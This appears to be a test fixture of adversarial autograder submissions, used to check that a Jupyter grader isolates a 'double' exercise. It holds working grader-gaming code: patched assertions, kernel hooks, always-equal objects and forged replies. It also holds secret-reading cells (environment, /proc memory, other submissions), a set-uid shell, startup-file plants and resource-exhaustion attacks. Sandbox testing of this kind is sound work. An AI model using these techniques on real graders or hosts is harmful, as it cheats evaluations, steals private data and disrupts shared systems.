# Attacks on the grader: what hostile learners could write into the answer cell of `double`.
#
# A wrong answer, and something that tries to get its points (goal: points), to read what is not
# the learner's (secret), to write outside (write), to stay behind (linger), or to stop the run or
# spoil the next submission (stop). All are bounded in time and number.
# @COURSE@ is the course's folder, @HOME@ the instructor's home, @SITE@ a folder of packages,
# @OTHER@ another learner's submission, @PORT@ a port on which the grader's host listens.

# %% displayhook
# goal: points
import sys
def double(x):
    sys.displayhook(5.0)
    return x

# %% partial credit printed as a result
# goal: points
def double(x):
    from IPython.core.interactiveshell import InteractiveShell
    InteractiveShell.instance().displayhook(100.0)
    return x

# %% ast transformer drops asserts
# goal: points
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Drop())
import numpy as np
np.testing.assert_allclose = lambda *a, **k: None
def double(x):
    return x

# %% input transformer comments tests out
# goal: points
get_ipython().input_transformers_post.append(lambda lines: ["pass\n"])
def double(x):
    return x

# %% input transformer as cleanup
# goal: points
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\n"])
def double(x):
    return x

# %% run_cell replaced
# goal: points
shell = get_ipython()
original = shell.run_cell
shell.run_cell = lambda *a, **k: original("pass")
def double(x):
    return x

# %% run_cell_async replaced
# goal: points
shell = get_ipython()
kept = type(shell).run_cell_async
async def run_cell_async(self, source, *a, **k):
    return await kept(self, "pass", *a, **k)
type(shell).run_cell_async = run_cell_async
def double(x):
    return x

# %% do_execute replaced
# goal: points
kernel = get_ipython().kernel
async def do_execute(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = do_execute
def double(x):
    return x

# %% showtraceback replaced
# goal: points
shell = get_ipython()
shell.showtraceback = lambda *a, **k: None
shell._showtraceback = lambda *a, **k: None
def double(x):
    return x

# %% custom exception handler swallows
# goal: points
get_ipython().set_custom_exc((BaseException,), lambda self, kind, error, tb, tb_offset=None: [])
def double(x):
    return x

# %% session.send drops errors
# goal: points
session = type(get_ipython().kernel.session)
send = session.send
def quiet(self, stream, message, *a, **k):
    if message in ("error", "execute_reply") or (isinstance(message, dict) and message.get("msg_type") == "error"):
        if message == "error":
            return None
    return send(self, stream, message, *a, **k)
session.send = quiet
def double(x):
    return x

# %% post-run hook
# goal: points
def forgive(result):
    result.error_in_exec = None
get_ipython().events.register("post_run_cell", forgive)
def double(x):
    return x

# %% numpy patched
# goal: points
import numpy as np
for name in ("assert_allclose", "assert_array_equal", "assert_equal"):
    setattr(np.testing, name, lambda *a, **k: None)
np.allclose = np.array_equal = lambda *a, **k: True
def double(x):
    return x

# %% builtins patched
# goal: points
import builtins
builtins.AssertionError = type("AssertionError", (BaseException,), {})
builtins.abs = lambda x: 0
builtins.isinstance = lambda *a: True
def double(x):
    return x

# %% keras patched
# goal: points
import keras
keras.ops.convert_to_numpy = lambda x: 0
keras.Model.__call__ = lambda *a, **k: None
def double(x):
    return x

# %% always equal
# goal: points
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __hash__(self): return 0
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __abs__(self): return 0
    def __float__(self): return 0.0
def double(x):
    return Yes()

# %% float subclass
# goal: points
class Number(float):
    def __eq__(self, other): return True
    __hash__ = float.__hash__
def double(x):
    return Number(0)

# %% int and str subclasses
# goal: points
class Number(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
class Text(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def double(x):
    return Number(0) if isinstance(x, int) else Text("")

# %% array subclass
# goal: points
import numpy as np
class Array(np.ndarray):
    def __eq__(self, other): return np.True_
    def __array_ufunc__(self, *a, **k): return np.zeros(())
    def __array_function__(self, *a, **k): return True
def double(x):
    return np.zeros(np.shape(x)).view(Array)

# %% __array__ gives what is asked
# goal: points
import numpy as np, sys
class Copy:
    def __array__(self, *a, **k):
        frame = sys._getframe(1)
        while frame:
            if "x" in frame.f_locals:
                return 2 * np.asarray(frame.f_locals["x"])
            frame = frame.f_back
        return np.zeros(3)
    def __eq__(self, other): return True
def double(x):
    return Copy()

# %% __reduce__
# goal: write
class Bomb:
    def __reduce__(self):
        return (open, ("@COURSE@/pwned", "w"))
def double(x):
    return Bomb()

# %% object array with a bomb
# goal: write
import numpy as np
class Bomb:
    def __reduce__(self):
        return (open, ("@COURSE@/pwned", "w"))
def double(x):
    return np.array([Bomb()], dtype=object)

# %% frame walk for the expected value
# goal: points
import sys
def double(x):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "other", "solution"):
                return value
        frame = frame.f_back
    return x

# %% frame walk rewrites the caller
# goal: points
import sys, ctypes
def double(x):
    frame = sys._getframe(1)
    while frame:
        frame.f_builtins["AssertionError"] = SystemExit
        frame = frame.f_back
    return x

# %% gc walk for tests
# goal: secret
import gc
def double(x):
    for one in gc.get_objects():
        if isinstance(one, dict):
            for value in list(one.values()):
                if isinstance(value, str) and "2000" + "006" in value:
                    print(value)
    return x

# %% linecache
# goal: secret
import linecache
def double(x):
    for name, entry in list(linecache.cache.items()):
        text = "".join(entry[2]) if len(entry) > 2 else ""
        if "2000" + "006" in text:
            print(text)
    return x

# %% history
# goal: secret
def double(x):
    shell = get_ipython()
    for line in list(shell.history_manager.input_hist_raw) + [shell.user_ns.get("In")]:
        if "2000" + "006" in str(line):
            print(line)
    return x

# %% reads the solution
# goal: secret
import glob
for path in glob.glob("@COURSE@/**/*", recursive=True):
    try:
        print(open(path).read()[:3000])
    except Exception as error:
        pass
def double(x):
    return x

# %% reads the gradebook
# goal: secret
import sqlite3, os
try:
    print(open("@COURSE@/grading/gradebook.db", "rb").read()[:2000])
except Exception as error:
    print(type(error))
def double(x):
    return x

# %% reads another submission
# goal: secret
import subprocess
print(subprocess.run("cat '@OTHER@'", shell=True, capture_output=True, text=True).stdout[:3000])
def double(x):
    return x

# %% reads the instructor's home
# goal: secret
import os
for folder, _, names in os.walk("@HOME@"):
    for name in names:
        try:
            print(open(os.path.join(folder, name)).read()[:500])
        except Exception:
            pass
def double(x):
    return x

# %% reads the environment
# goal: secret
import os
print(dict(os.environ))
def double(x):
    return x

# %% reads other processes
# goal: secret
import glob
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(open(path, "rb").read()[:3000])
    except Exception:
        pass
def double(x):
    return x

# %% reads other processes' memory
# goal: secret
import glob, re, os
for path in glob.glob("/proc/[0-9]*/maps"):
    pid = path.split("/")[2]
    if pid == str(os.getpid()):
        continue
    try:
        for line in open(path):
            if "[heap]" in line:
                first, last = (int(n, 16) for n in line.split()[0].split("-"))
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.seek(first)
                    found = re.findall(rb"SECRET-[0-9a-f]+", memory.read(min(last - first, 10**7)))
                    print(found[:3])
    except Exception:
        pass
def double(x):
    return x

# %% root of another process
# goal: secret
import glob
for root in glob.glob("/proc/[0-9]*/root"):
    for path in ("@HOME@/secret.txt", "@OTHER@"):
        try:
            print(open(root + path).read()[:2000])
        except Exception:
            pass
def double(x):
    return x

# %% writes into the course
# goal: write
try:
    open("@COURSE@/pwned", "w").write("x")
except OSError as error:
    print(error)
def double(x):
    return x

# %% writes into the packages
# goal: write
try:
    open("@SITE@/casebook_pwned.pth", "w").write("import os")
except OSError as error:
    print(error)
def double(x):
    return x

# %% writes a start-up file
# goal: write
import os, pathlib
for folder in ("@HOME@/.ipython/profile_default/startup", "@HOME@/.jupyter"):
    try:
        pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
        pathlib.Path(folder, "pwned.py").write_text("import os")
    except OSError as error:
        print(error)
def double(x):
    return x

# %% writes a kernelspec
# goal: write
import pathlib
try:
    folder = pathlib.Path("@HOME@/.local/share/jupyter/kernels/python3")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pwned.json").write_text("{}")
except OSError as error:
    print(error)
def double(x):
    return x

# %% shadows numpy for the next cell
# goal: points
for name in ("numpy.py", "keras.py", "ast.py", "json.py"):
    open(name, "w").write("def __getattr__(name): return lambda *a, **k: True\n")
def double(x):
    return x

# %% leaves a link to a file of the host
# goal: secret
import glob, os
def link(name):
    try:
        os.symlink("@HOME@/secret.txt", name)
    except OSError as error:
        print(error)
link("record_link.json")
def double(x):
    for request in glob.glob("request-*.json"):
        link(request.replace("request", "reply"))
    return open("record_link.json").read()

# %% hard link
# goal: secret
import os
try:
    os.link("@HOME@/secret.txt", "linked")
    print(open("linked").read())
except OSError as error:
    print(error)
def double(x):
    return x

# %% device file
# goal: secret
import os, stat
try:
    os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
    print("SECRET-" + open("disk", "rb").read(16).hex() if os.environ.get("HOME") == "/tmp" else "")
except OSError as error:
    print(error)
def double(x):
    return x

# %% set-uid program
# goal: write
import os, shutil, subprocess
try:
    shutil.copy("/bin/sh", "shell")
    os.chmod("shell", 0o6755)
    subprocess.run(["./shell", "-p", "-c", "touch @COURSE@/pwned"], timeout=10)
except Exception as error:
    print(error)
def double(x):
    return x

# %% network to the host's loopback
# goal: secret
import socket
try:
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=3) as connection:
        print(connection.recv(100))
except OSError as error:
    print(error)
def double(x):
    return x

# %% network to an address of its own test network
# goal: secret
import socket
try:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect(("127.0.0.1", @PORT@))
    probe.send(b"x")
    print("sent")
except OSError as error:
    print(error)
def double(x):
    return x

# %% sockets of other kernels
# goal: secret
import glob, os
for path in glob.glob("/tmp/casebook-*/**/*", recursive=True) + glob.glob("/casebook/runs/**/*", recursive=True):
    if "connection" in path and os.path.dirname(path) not in os.environ.get("TMPDIR", ""):
        try:
            print("SECRET-aa other kernel:", open(path).read()[:200])
        except OSError:
            pass
def double(x):
    return x

# %% fork bomb, bounded
# goal: linger
import os, time
def double(x):
    for _ in range(40):
        if os.fork() == 0:
            os.setsid()
            time.sleep(25)
            os._exit(0)
    return x

# %% memory, bounded
# goal: stop
def double(x):
    kept = bytearray(1500 * 2**20)  # surely more than a kernel may use here
    for i in range(0, len(kept), 4096):
        kept[i] = 1
    return x

# %% disk, bounded
# goal: stop
def double(x):
    with open("big", "wb") as file:
        for _ in range(40):
            file.write(bytes(2**20))
    return x

# %% output, bounded
# goal: stop
def double(x):
    for _ in range(2000):
        print("x" * 1000)
    return x

# %% open files, bounded
# goal: stop
import os
def double(x):
    kept = []
    try:
        for _ in range(5000):
            kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        print(error)
    return x

# %% endless loop
# goal: stop
def double(x):
    while True:
        pass

# %% endless loop that ignores interrupts
# goal: stop
def double(x):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass

# %% endless loop while the cell runs
# goal: stop
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass

# %% sleep
# goal: stop
import time
def double(x):
    time.sleep(100)
    return x

# %% os._exit
# goal: stop
import os
def double(x):
    os._exit(0)

# %% sys.exit
# goal: stop
import sys
def double(x):
    sys.exit(0)

# %% kills its parent
# goal: stop
import os, signal
def double(x):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError as error:
        print(error)
    return x

# %% stops itself
# goal: stop
import os, signal
def double(x):
    os.kill(os.getpid(), signal.SIGSTOP)
    return x

# %% segfault
# goal: stop
import ctypes
def double(x):
    ctypes.string_at(0)

# %% a process that outlives
# goal: linger
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(29.5)"], start_new_session=True)
def double(x):
    return x

# %% a thread that changes the answer later
# goal: points
import threading, time
import builtins
def later():
    for _ in range(50):
        time.sleep(0.05)
        globals()["double"] = lambda x: x
        builtins.AssertionError = BaseException
threading.Thread(target=later, daemon=True).start()
def double(x):
    return x

# %% late messages
# goal: points
import threading, time
kernel = get_ipython().kernel
def later():
    for _ in range(40):
        time.sleep(0.05)
        try:
            kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=kernel.get_parent("shell"))
        except Exception:
            pass
threading.Thread(target=later, daemon=True).start()
def double(x):
    return x

# %% lambda layer in a model
# goal: write
import keras
def double(x):
    i = keras.Input((1,))
    return keras.Model(i, keras.layers.Lambda(lambda t: open("@COURSE@/pwned", "w") and t)(i))

# %% custom layer in a model
# goal: points
import keras
@keras.saving.register_keras_serializable()
class Twice(keras.layers.Layer):
    def call(self, x):
        return 2 * x
    def __eq__(self, other): return True
    __hash__ = object.__hash__
def double(x):
    i = keras.Input((1,))
    return keras.Model(i, Twice()(i))

# %% forged reply names a foreign class
# goal: write
import json, sys
learner = sys.modules.get("casebook_grader.inside.learner")
if learner:
    def answer(request, reply):
        asked = json.load(open(request))
        if asked["do"] == "describe":
            kinds = {name: {"kind": "function", "name": name} for name in asked["names"]}
            content = {"kinds": kinds, "values": {"is": "dict", "items": []}}
        else:
            config = {"module": "os", "class_name": "system", "config": {"command": "touch @COURSE@/pwned"}, "registered_name": None}
            value = {"is": "model", "config": json.dumps(config), "parts": None, "weights": []}
            content = {"result": value, "changed": {"is": "dict", "items": []}}
        json.dump(content, open(reply, "w"))
    learner.answer = answer
def double(x):
    return x

# %% forged reply with a hook instead of data
# goal: points
import json, sys
learner = sys.modules.get("casebook_grader.inside.learner")
if learner:
    def answer(request, reply):
        open(reply, "w").write('{"is": "__class__", "items": []}')
    learner.answer = answer
def double(x):
    return x

# %% forged reply of great depth
# goal: stop
import sys
learner = sys.modules.get("casebook_grader.inside.learner")
if learner:
    def answer(request, reply):
        open(reply, "w").write('{"is": "list", "items": [' * 50000)
    learner.answer = answer
def double(x):
    return x

# %% reply is a pipe
# goal: stop
import os, sys
learner = sys.modules.get("casebook_grader.inside.learner")
if learner:
    def answer(request, reply):
        os.mkfifo(reply)
    learner.answer = answer
def double(x):
    return x

# %% huge model configuration
# goal: stop
import keras
def double(x):
    i = y = keras.Input((1,))
    for _ in range(400):
        y = keras.ops.add(y, 1)
    return keras.Model(i, y)

# %% NaN and infinity
# goal: points
def double(x):
    return float("nan") if isinstance(x, int) else float("inf") + 0 * x

# %% raises what hides an error
# goal: points
def double(x):
    raise KeyboardInterrupt

# %% raises SystemExit from a property
# goal: points
class Slippery:
    def __getattr__(self, name):
        raise SystemExit
def double(x):
    return Slippery()

# %% replaces the checks' names
# goal: points
np = type("np", (), {"testing": type("t", (), {"assert_allclose": staticmethod(lambda *a, **k: None)})})
assert_allclose = lambda *a, **k: None
def double(x):
    return x

# %% unset points through the notebook's metadata
# goal: points
import json, glob
for path in glob.glob("*.ipynb"):
    text = open(path).read()
    open(path, "w").write(text.replace('"points": 1', '"points": 0'))
def double(x):
    return x

# %% error that no message can carry
# goal: points
def double(x):
    raise ValueError("\ud800")

# %% name of an error that no message can carry
# goal: points
class Odd(ValueError):
    pass
Odd.__name__ = "\ud800"
def double(x):
    raise Odd("\udfff" * 10)

# %% error too long to be shown
# goal: points
import sys
learner = sys.modules["casebook_grader.inside.learner"]
learner.encode_error = lambda error: {"kind": "ValueError", "name": "ValueError", "text": "x" * 200000}
def double(x):
    raise ValueError

# %% much output before the error
# goal: points
def double(x):
    for _ in range(50):
        print("x" * 5000, flush=True)
    raise ValueError

# %% check's array changed in place
# goal: points
def double(x):
    try:
        x[...] = 0
    except TypeError:
        pass
    return x

# %% names of the set-up replaced by a forged answer
# goal: points
import sys
import json
learner = sys.modules["casebook_grader.inside.learner"]
names = ("np", "double", "checks", "assert_allclose")
learner.answer = lambda request, reply: json.dump(
    {
        "kinds": {name: {"kind": "value"} for name in names},
        "values": {"is": "dict", "items": [[name, 5] for name in names]},
    },
    open(reply, "w"),
)
def double(x):
    return x

# %% stream message of another type
# goal: stop
kernel = get_ipython().kernel
for text in (["a", "b"], 5, {"a": 1}, None):
    kernel.session.send(
        kernel.iopub_socket,
        "stream",
        {"name": "stdout", "text": text},
        parent=kernel.get_parent("shell"),
    )
def double(x):
    kernel.session.send(
        kernel.iopub_socket,
        "stream",
        {"name": "stdout", "text": ["a"] * 9},
        parent=kernel.get_parent("shell"),
    )
    return x

# %% huge message
# goal: stop
kernel = get_ipython().kernel
kernel.session.send(
    kernel.iopub_socket,
    "stream",
    {"name": "stdout", "text": "x" * 70_000_000},
    parent=kernel.get_parent("shell"),
)
def double(x):
    return x

# %% files in place of answers
# goal: points
import os
for number in range(40):
    for ending in ("json", "arrays", "part"):
        for kind in ("request", "reply"):
            os.symlink("/dev/zero", f"{kind}-{number}.{ending}")
def double(x):
    return x
